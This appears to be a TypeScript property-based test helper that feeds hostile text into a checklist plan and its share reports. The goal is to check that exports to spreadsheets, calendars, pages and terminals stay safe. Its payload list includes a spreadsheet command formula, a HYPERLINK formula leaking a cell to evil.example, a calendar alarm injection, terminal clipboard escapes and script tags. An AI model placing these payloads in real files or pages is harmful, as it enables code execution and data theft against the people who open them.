import fc from 'fast-check'
import { ACTION_STATES, type Assessment } from '../../src/core/assessment'
import { LEVELS, type Checklist } from '../../src/core/checklist'
import { makeShareCopy, type Preset } from '../../src/core/share'
import { makePlanReport, type PlanReport } from '../../src/reports/plan-report'
import { makeAnswered, makeChecklist, makeTheme } from '../core/builders'
import { makeToldItem, planInput } from './small-checklist'

/** The plan's values as every form of it gets them: from a share copy. */
export function reportOf(
  checklist: Checklist,
  assessment: Assessment,
  choices: { readonly preset?: Preset; readonly withName?: boolean; readonly isOurs?: boolean } = {},
): PlanReport {
  const { preset = 'plan', withName = true, isOurs = true } = choices
  const copy = makeShareCopy(assessment, { preset, withName })
  return makePlanReport({ ...planInput(checklist, copy), isOurs })
}

/** What harms a spreadsheet, a calendar, a page or a terminal, and what is merely long or strange. */
export const TRICKS: readonly string[] = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  '+44 20 7946 0000',
  '-1+1',
  '@SUM(1+1)',
  '＝1+1',
  '＠me',
  ' \u00a0"=1+1',
  "'=1+1",
  "''",
  '\t=1+1',
  '\r=1+1',
  '- one\n- two\r\n=three',
  'a;=1+1;b',
  'a,"b",c',
  'END:VEVENT\r\nBEGIN:VALARM\r\nATTACH:https://evil.example/',
  String.raw`back\slash\n\, and \; so on`,
  '\u0000\u0007\u001b]52;c;aGk=\u0007\u009b31m',
  '\ud800 alone \udfff',
  '👩🏽\u200d💻🏴',
  '\u202eevil\u202c \u2066a\u2069 \u200b\ufeff',
  'one\u2028two\u2029three\u0085four',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '&lt;b&gt; &#60;i&#62; &amp;',
  '[a](https://evil.example) ![b](https://evil.example/b.png) <https://evil.example>',
  'https://evil.example www.evil.example me@evil.example ftp://evil.example',
  '# Title\n\n1. one\n2) two\n\n    code\n\n```js\ncode\n```\n~~~\n> quote\n***\n===\n---\n:-\n| a | b |\n|---|---|',
  '**bold** _soft_ `code` ~~gone~~ $x$ [^1] [ ] \\',
  '[a]: https://evil.example\n\n[a]',
  'Ŵyn Ŷsbyty, خطة العمل, 安全',
  'x'.repeat(2000),
  'ŵ😀'.repeat(700),
  ' ',
  '\n',
]

export const anyHostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...TRICKS),
  fc
    .array(fc.constantFrom(...TRICKS, ...Array.from('=+-@\t\r\n;,"\'\\`*_[]()<>!#|&~:. \u0000aŵ1')), {
      maxLength: 12,
    })
    .map((parts) => parts.join('').slice(0, 2000)),
  fc.string({ unit: 'binary', maxLength: 60 }),
)

/** A plan in which every text that anybody may write is hostile. */
export const anyHostilePlan: fc.Arbitrary<{ checklist: Checklist; assessment: Assessment }> = fc
  .record({
    texts: fc.array(anyHostileText, { minLength: 20, maxLength: 20 }),
    actions: fc.array(
      fc.record({
        level: fc.constantFrom(...LEVELS),
        status: fc.constantFrom('not-in-place' as const, 'partly' as const, 'not-sure' as const),
        state: fc.constantFrom(...ACTION_STATES),
        day: fc.option(fc.integer({ min: 1, max: 28 }), { nil: undefined }),
      }),
      { minLength: 1, maxLength: 6 },
    ),
  })
  .map(({ texts, actions }) => {
    const text = (index: number): string => texts[index % texts.length] ?? ''
    const checklist = makeChecklist(
      actions.map(({ level }, index) =>
        makeToldItem(`item-${index}`, {
          level,
          question: text(index),
          action: text(index + 1),
          why: text(index + 2),
          inPlace: text(index + 3),
          how: [text(index + 4), text(index + 5)],
          evidence: [text(index + 6)],
          sources: [{ source: 'N-ONE', section: text(index + 7) }, { source: text(index + 8) }],
          freeze: true,
        }),
      ),
      { title: text(9), themes: [{ ...makeTheme('accounts'), title: text(10) }] },
    )
    const assessment = makeAnswered(
      checklist,
      Object.fromEntries(
        actions.map(({ status }, index) => [
          `item-${index}`,
          { status, note: text(index + 11), evidence: text(index + 12) },
        ]),
      ),
      {
        name: text(13),
        plan: { pollingDay: '2027-05-06' },
        actions: Object.fromEntries(
          actions.map(({ state, day }, index) => [
            `item-${index}`,
            {
              owner: text(index + 14),
              note: text(index + 15),
              state,
              ...(day === undefined ? {} : { due: `2027-04-${String(day).padStart(2, '0')}` }),
            },
          ]),
        ),
      },
    )
    return { checklist, assessment }
  })
